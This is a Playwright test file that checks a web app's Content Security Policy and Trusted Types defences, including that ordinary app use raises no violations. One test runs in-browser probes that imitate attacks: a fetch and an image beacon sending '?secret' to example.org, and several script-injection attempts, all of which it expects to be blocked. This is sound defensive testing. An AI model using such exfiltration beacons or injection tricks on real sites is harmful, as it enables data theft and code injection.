import type { Page } from 'playwright/test';
import { metaPolicy, securityHeaders } from '../scripts/hosting/headers.ts';
import { host } from './support/host.ts';
import { fillRecord } from './support/records.ts';
import { expect, test } from './support/test.ts';
import { words } from './support/words.ts';

test.use({ serviceWorkers: 'allow' });

/** Every violation of the page's policy, from its first moment on. */
async function violations(page: Page): Promise<string[]> {
  const found: string[] = [];
  await page.exposeFunction('tellViolation', (violation: string) => found.push(violation));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sourceFile }) => {
      const { tellViolation } = window as unknown as { tellViolation: (violation: string) => void };
      tellViolation(`${violatedDirective}: ${blockedURI} in ${sourceFile}`);
    });
  });
  return found;
}

test('the host sends every header', async ({ request }) => {
  const response = await request.get('./');
  for (const [name, value] of Object.entries(securityHeaders)) {
    expect(response.headers()[name.toLowerCase()]).toBe(value);
  }
});

for (const sent of ['with headers', 'by the page alone']) {
  test(`nothing the app does breaks the policy, ${sent}`, async ({ app, page }) => {
    const server = sent === 'with headers' ? undefined : await host();
    const found = await violations(page);
    await app.start(server?.url);
    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
      'content',
      metaPolicy,
    );
    await app.modelReady();
    await app.classify.chooseSample();
    await app.classify.classify();
    await app.classify.saved();
    await fillRecord(page, 2);
    await app.go('history');
    await app.history.entries.first().click();
    await page.getByRole('textbox', { name: words('history_note_label') }).fill('A note.');
    await page.getByRole('button', { name: words('history_delete') }).click();
    await page
      .getByRole('alertdialog')
      .getByRole('button', { name: words('confirm_cancel') })
      .click();
    await app.go('settings');
    await app.go('about');
    expect(found).toEqual([]);
    server?.close();
  });
}

test('nothing gets in or out', async ({ app, page, problems }) => {
  problems.allow(
    /Content Security Policy|Refused|violates|requires 'Trusted|connect|Fetch API|request: https:\/\/example/i,
  );
  const found = await violations(page);
  await app.start();
  const outcome = await page.evaluate(async () => {
    const sent = await fetch('https://example.org/?secret').then(
      () => true,
      () => false,
    );
    const beacon = await new Promise<boolean>((resolve) => {
      const image = new Image();
      image.onload = () => resolve(true);
      image.onerror = () => resolve(false);
      image.src = 'https://example.org/pixel.gif?secret';
    });
    // Trusted Types: each throws before anything is loaded or run.
    const refused = (attempt: () => unknown): boolean => {
      try {
        attempt();
        return false;
      } catch (thrown) {
        return thrown instanceof TypeError;
      }
    };
    const script = document.createElement('script');
    const strings = {
      text: refused(() => (script.textContent = 'window.injected = true')),
      address: refused(() => (script.src = URL.createObjectURL(new Blob(['window.injected = true'])))),
      html: refused(() => (document.createElement('div').innerHTML = '<img src="x">')),
      worker: refused(() => new Worker('https://example.org/worker.js')),
      ownBlob: refused(() => new Worker(URL.createObjectURL(new Blob(['0'])))),
    };
    // Its text comes as a node, which is never refused as a type: it must not run either.
    const made = document.createElement('script');
    made.append('window.injected = true');
    document.head.append(made);
    return { sent, beacon, strings, injected: 'injected' in window };
  });
  expect(outcome).toEqual({
    sent: false,
    beacon: false,
    strings: { text: true, address: true, html: true, worker: true, ownBlob: true },
    injected: false,
  });
  // Each is told twice, by the policy of the page and by that of the headers; the last come after the answer.
  await expect
    .poll(() => [...new Set(found.map((violation) => violation.split(':')[0]))].sort())
    .toEqual(['connect-src', 'img-src', 'require-trusted-types-for']);
});
